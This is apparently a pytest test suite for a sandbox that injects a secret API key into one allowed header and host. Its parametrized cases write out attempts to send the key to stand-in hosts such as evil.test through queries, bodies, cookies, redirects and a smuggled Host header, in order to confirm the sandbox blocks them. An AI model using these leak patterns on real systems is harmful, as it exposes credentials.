"""Secrets that programs never have: the server gets the value in one field of its requests, and nobody else does."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.network.visits import World
from tests.network.witness import PORT
from tests.support.whole import whole

from casemate import Execution, Inject, InvalidArgument, sync

VALUE = "sk-t0k3n-RealKey-0123456789"
SERVER = f"api.good.test:{PORT}"
HOSTS = ["good.test", "api.good.test", "evil.test", "good.test.evil.test", "evilgood.test", "other.test"]

# `ask(method, url, fields, body)` over HTTP/1.1 without checking the certificate, and the secrets to look for.
BEGIN = """
import base64, http.client, os, re, ssl, sys
from urllib.parse import urlsplit
KEY = os.environ["KEY"]
unverified = ssl._create_unverified_context()
def ask(method, url, fields={}, body=None, **more):
    parts = urlsplit(url)
    kind = http.client.HTTPSConnection if parts.scheme == "https" else http.client.HTTPConnection
    context = {"context": unverified} if parts.scheme == "https" else {}
    one = kind(parts.hostname, parts.port, timeout=60, **context)
    one.request(method, parts.path + ("?" + parts.query if parts.query else ""), body, fields, **more)
    answer = one.getresponse()
    return answer.status, answer.getheaders(), answer.read()
def tell(answer):
    said = repr(answer)
    print(answer[0], re.search("-Real[K]ey-", said) is not None, KEY in said)
"""


@pytest.fixture
def sandbox(world: World, audit: Path) -> Iterator[sync.Sandbox]:
    """One whose secret is for one host, and which may reach others."""
    domains = [rule for host in HOSTS for rule in (host, f"{host}:{PORT}", f"{host}:9443")]
    with sync.Sandbox(audit=audit, allowed_domains=domains, trust=world.folder / "ca.pem") as made:
        made.vault.set("KEY", VALUE, inject=Inject([SERVER, "api.good.test"], "X-Key", "{}"))
        yield made


def witnessed(world: World) -> list[dict[str, Any]]:
    """What the servers that write down everything were sent."""
    file = world.folder / "witnessed"
    return [json.loads(line) for line in file.read_text().splitlines()] if file.exists() else []


def everything_sent(world: World) -> str:
    """The same, and what all others were."""
    return json.dumps(witnessed(world)) + "\n".join(world.visits())


def keys(sent: list[dict[str, Any]]) -> list[str]:
    """The fields of that name."""
    return [value for one in sent for name, value in one["fields"] if name.lower() == "x-key"]


def denied(execution: Execution) -> list[str]:
    """What is on record of what was not put in."""
    return [one.reason for one in execution.crossings if one.decision == "denied"]


@pytest.fixture(autouse=True)
def _no_value_before(world: World) -> None:
    (world.folder / "witnessed").unlink(missing_ok=True)


@pytest.mark.parametrize("path", ["/", "/chunks", "/chunks/small"])
def test_va_15_the_server_gets_the_value_and_the_program_does_not(
    world: World, sandbox: sync.Sandbox, path: str
) -> None:
    program = BEGIN + f"tell(ask('GET', 'https://{SERVER}{path}', {{'X-Key': KEY, 'Accept-Encoding': 'gzip'}}))"
    execution = sandbox.run(program, secrets=["KEY"])
    assert execution.stdout == "200 False True\n", (execution.stderr, execution.crossings)
    (sent,) = witnessed(world)
    assert (sent["version"], keys([sent])) == ("1.1", [VALUE])
    assert ["accept-encoding", "identity"] in [[name.lower(), value] for name, value in sent["fields"]]
    assert VALUE not in whole(execution)
    assert ("allowed", "KEY was injected into its field x-key") in {(c.decision, c.reason) for c in execution.crossings}
    assert denied(execution) == []


def test_va_15_at_the_usual_port_as_well(world: World, sandbox: sync.Sandbox) -> None:
    visits = len(world.visits())
    program = BEGIN + "print(ask('GET', 'https://api.good.test/x', {'X-Key': KEY})[0])"
    execution = sandbox.run(program, secrets=["KEY"])
    assert execution.stdout == "200\n", (execution.stderr, execution.crossings)
    assert [visit.endswith(f"x={VALUE}'") for visit in world.visits()[visits:]] == [True]


@pytest.mark.parametrize("credentials", ["git:{}", "{}:", "{}:x-oauth-basic"])
def test_a_password_of_basic_authentication_is_put_in(world: World, sandbox: sync.Sandbox, credentials: str) -> None:
    sandbox.vault.set("KEY", VALUE, inject=Inject([SERVER], format="Basic {}"))
    encoded = f"base64.b64encode({credentials!r}.format(KEY).encode()).decode()"
    program = BEGIN + f"tell(ask('GET', 'https://{SERVER}/', {{'Authorization': 'Basic ' + {encoded}}}))"
    execution = sandbox.run(program, secrets=["KEY"])
    assert execution.stdout.startswith("200 False"), (execution.stderr, execution.crossings)
    expected = "Basic " + base64.b64encode(credentials.format(VALUE).encode()).decode()
    assert ["Authorization", expected] in witnessed(world)[0]["fields"]


ELSEWHERE = [
    pytest.param(f"ask('GET', 'https://evil.test:{PORT}/', {{'X-Key': KEY}})", None, id="another host"),
    pytest.param(f"ask('GET', 'https://good.test:{PORT}/', {{'X-Key': KEY}})", None, id="the host above"),
    pytest.param(f"ask('GET', 'https://good.test.evil.test:{PORT}/', {{'X-Key': KEY}})", None, id="suffix"),
    pytest.param(f"ask('GET', 'https://evilgood.test:{PORT}/', {{'X-Key': KEY}})", None, id="ending"),
    pytest.param("ask('GET', 'http://api.good.test/', {'X-Key': KEY})", "in clear", id="in clear"),
    pytest.param(f"ask('GET', 'https://{SERVER}/?k=' + KEY)", "in the URL", id="query"),
    pytest.param(f"ask('GET', 'https://{SERVER}/' + KEY)", "in the URL", id="path"),
    pytest.param(f"ask('POST', 'https://{SERVER}/', {{}}, 'k=' + KEY)", "in the body", id="body"),
    pytest.param(
        f"ask('POST', 'https://{SERVER}/', {{}}, iter([KEY[:9].encode(), KEY[9:].encode()]), encode_chunked=True)",
        "in the body",
        id="streaming body",
    ),
    pytest.param(f"ask('GET', 'https://{SERVER}/', {{'X-Other': KEY}})", "in a field that it is not for", id="field"),
    pytest.param(f"ask('GET', 'https://{SERVER}/', {{'Cookie': 'k=' + KEY}})", "in a field", id="cookie"),
    pytest.param(f"ask('GET', 'https://{SERVER}/', {{'X-Key': 'x' + KEY}})", "in a form other than", id="form"),
    pytest.param(f"ask('TRACE', 'https://{SERVER}/', {{'X-Key': KEY}})", "by a method", id="trace"),
]


@pytest.mark.parametrize(("asking", "noted"), ELSEWHERE)
def test_va_15_anywhere_else_a_placeholder_arrives(
    world: World, sandbox: sync.Sandbox, asking: str, noted: str | None
) -> None:
    before = len(world.visits())
    execution = sandbox.run(BEGIN + f"print(KEY, file=sys.stderr); tell({asking})", secrets=["KEY"])
    placeholder = execution.stderr.split()[0]
    assert execution.stdout.startswith("200 False"), (execution.stderr, execution.crossings)
    assert len(witnessed(world)) + len(world.visits()) - before == 1
    assert placeholder in everything_sent(world)
    assert VALUE not in "\n".join([json.dumps(witnessed(world)), *world.visits()[before:]])
    assert [noted in one and "KEY" in one for one in denied(execution)] == [True] if noted else not denied(execution)


def test_va_15_behind_a_redirect_a_placeholder_arrives(world: World, sandbox: sync.Sandbox) -> None:
    program = BEGIN + (
        f"to = 'https://{SERVER}/redirect?https://evil.test:{PORT}/?k=' + KEY\n"
        "status, fields, _ = ask('GET', to, {'X-Key': KEY})\n"
        "tell((status, fields))\n"
        "tell(ask('GET', dict(fields)['location'], {'X-Key': KEY}))"
    )
    execution = sandbox.run(program, secrets=["KEY"])
    assert execution.stdout == "302 False True\n200 False True\n", (execution.stderr, execution.crossings)
    first, second = witnessed(world)
    assert keys([first]) == [VALUE]
    assert VALUE not in json.dumps(second) + first["target"]


def test_va_15_another_host_in_the_same_connection_gets_nothing(world: World, sandbox: sync.Sandbox) -> None:
    program = BEGIN + f"tell(ask('GET', 'https://{SERVER}/', {{'Host': 'evil.test:{PORT}', 'X-Key': KEY}}))"
    execution = sandbox.run(program, secrets=["KEY"])
    assert execution.stdout == "403 False False\n", (execution.stderr, execution.crossings)
    assert witnessed(world) == []


def test_va_15_frames_of_a_websocket_are_as_the_program_wrote_them(world: World, sandbox: sync.Sandbox) -> None:
    program = BEGIN + (
        f"import socket\nraw = socket.create_connection(('api.good.test', {PORT}), 20)\n"
        "one = unverified.wrap_socket(raw, server_hostname='api.good.test')\n"
        f"one.sendall(f'GET / HTTP/1.1\\r\\nHost: {SERVER}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n"
        "X-Key: {KEY}\\r\\n\\r\\n'.encode())\n"
        "print(one.recv(1 << 16).split()[1].decode())\n"
        "one.sendall(b'\\x81' + bytes([len(KEY)]) + KEY.encode())\n"
        "print(KEY.encode() in one.recv(1 << 16))"
    )
    execution = sandbox.run(program, secrets=["KEY"])
    assert execution.stdout == "101\nTrue\n", (execution.stderr, execution.crossings)
    head, frames = witnessed(world)
    assert keys([head]) == [VALUE]
    assert VALUE not in frames["body"]


def test_va_15_a_server_that_is_not_verified_gets_no_request(world: World, sandbox: sync.Sandbox) -> None:
    sandbox.vault.set("KEY", VALUE, inject=Inject(["api.good.test:9443"], "X-Key", "{}"))
    before = len(world.visits())
    execution = sandbox.run(BEGIN + "tell(ask('GET', 'https://api.good.test:9443/', {'X-Key': KEY}))", secrets=["KEY"])
    assert execution.stdout == "502 False False\n", (execution.stderr, execution.crossings)
    assert world.visits()[before:] == []


def test_a_host_of_a_secrets_is_not_open_by_that(world: World, audit: Path) -> None:
    with sync.Sandbox(audit=audit, allowed_domains=["other.test"], trust=world.folder / "ca.pem") as narrow:
        narrow.vault.set("KEY", VALUE, inject=Inject([SERVER], "X-Key", "{}"))
        execution = narrow.run(BEGIN + f"ask('GET', 'https://{SERVER}/', {{'X-Key': KEY}})", secrets=["KEY"])
    assert not execution.ok
    assert [one.host for one in execution.crossings if one.decision == "denied"] == ["api.good.test"]
    assert witnessed(world) == []


@pytest.mark.full
def test_va_17_a_session_has_what_was_there_when_it_began(world: World, sandbox: sync.Sandbox) -> None:
    asking = f"tell(ask('GET', 'https://{SERVER}/', {{'X-Key': KEY}}))"
    with sandbox.session(secrets=["KEY"]) as session:
        assert session.run(BEGIN + asking).stdout == "200 False True\n"
        sandbox.vault.delete("KEY")
        with pytest.raises(InvalidArgument, match="no secret"):
            sandbox.run(BEGIN + asking, secrets=["KEY"])
        sandbox.vault.set("KEY", "another-value-of-its", inject=Inject([SERVER], "X-Key", "{}"))
        assert session.run(asking).stdout == "200 False True\n"
        assert session.run(f"print({VALUE!r})").stdout == "[secret:KEY]\n"
    assert sandbox.run(BEGIN + asking, secrets=["KEY"]).ok
    assert keys(witnessed(world)) == [VALUE, VALUE, "another-value-of-its"]


def test_the_placeholder_of_another_run_is_nothing(world: World, sandbox: sync.Sandbox) -> None:
    before = sandbox.run("import os; print(os.environ['KEY'])", secrets=["KEY"]).stdout.strip()
    execution = sandbox.run(BEGIN + f"ask('GET', 'https://{SERVER}/', {{'X-Key': {before!r}}})", secrets=["KEY"])
    assert execution.ok, execution.stderr
    assert keys(witnessed(world)) == [before]


@pytest.mark.full
def test_the_example_does_what_it_says(world: World, tmp_path: Path) -> None:
    example = Path(__file__).resolve().parents[2] / "examples" / "injection.py"
    before = len(world.visits())
    ran = subprocess.run(
        [sys.executable, example], env={**os.environ, "XDG_STATE_HOME": str(tmp_path)}, capture_output=True, text=True,
        timeout=60, check=False,
    )  # fmt: skip
    first, second, third = ran.stdout.splitlines()
    assert first == "a token of 31 characters that begins with sk-", ran.stderr
    assert second.startswith("not reached: ")
    assert third == "in the cell: False"
    assert world.visits()[before:] == []
